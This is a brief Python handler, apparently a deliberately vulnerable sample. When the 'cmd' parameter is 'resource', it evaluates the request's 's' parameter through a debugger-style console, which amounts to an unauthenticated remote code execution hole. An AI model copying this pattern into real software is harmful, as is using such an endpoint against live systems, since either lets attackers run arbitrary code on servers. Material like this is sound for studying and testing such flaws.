from werkzeug.wrappers import Request
import subprocess

def handle(request, frames):
    cmd = request.args.get("cmd")
    if cmd == "resource":
        return frames.console.eval(request.args.get("s"))
    return subprocess.run(["/bin/true"], check=False)
